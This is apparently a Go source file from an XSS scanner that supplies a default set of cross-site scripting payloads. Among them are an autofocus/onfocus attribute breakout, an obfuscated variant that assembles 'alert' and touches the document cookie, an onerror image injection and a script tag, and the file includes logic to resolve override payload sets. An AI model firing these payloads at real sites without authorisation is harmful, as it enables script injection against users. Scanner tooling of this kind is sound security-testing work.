package payloads

import "errors"

// ErrEmptyPayloadSet is returned when neither an override nor the
// built-in defaults provide a payload.
var ErrEmptyPayloadSet = errors.New("payload set is empty")

// defaultPayloads cover auto-executing attribute injection (autofocus +
// onfocus), an onerror image with a quote breakout, and a classic script tag.
var defaultPayloads = []string{
	`"><A HRef=" AutoFocus OnFocus=top/**/?. >`,
	`"><A HRef=" AutoFocus OnFocus=top/**/?.['ale' + 'rt'](document + cookie)>`,
	`%27"><Img Src=OnXSS OnError=alert(1)>`,
	`<script>alert(1)</script>`,
}

// Defaults returns a copy of the built-in payload set.
func Defaults() []string {
	return append([]string(nil), defaultPayloads...)
}

// Provider resolves the effective payload set for a scan.
type Provider struct {
	defaults []string
}

// NewProvider creates a Provider falling back to the given defaults.
func NewProvider(defaults []string) *Provider {
	return &Provider{defaults: append([]string(nil), defaults...)}
}

// DefaultProvider falls back to the built-in payloads.
func DefaultProvider() *Provider {
	return NewProvider(defaultPayloads)
}

// Resolve returns override unchanged when it is non-empty, otherwise the
// provider defaults.
func (p *Provider) Resolve(override []string) ([]string, error) {
	if len(override) > 0 {
		return override, nil
	}
	if len(p.defaults) == 0 {
		return nil, ErrEmptyPayloadSet
	}
	return append([]string(nil), p.defaults...), nil
}

// Resolve applies the built-in provider.
func Resolve(override []string) ([]string, error) {
	return DefaultProvider().Resolve(override)
}
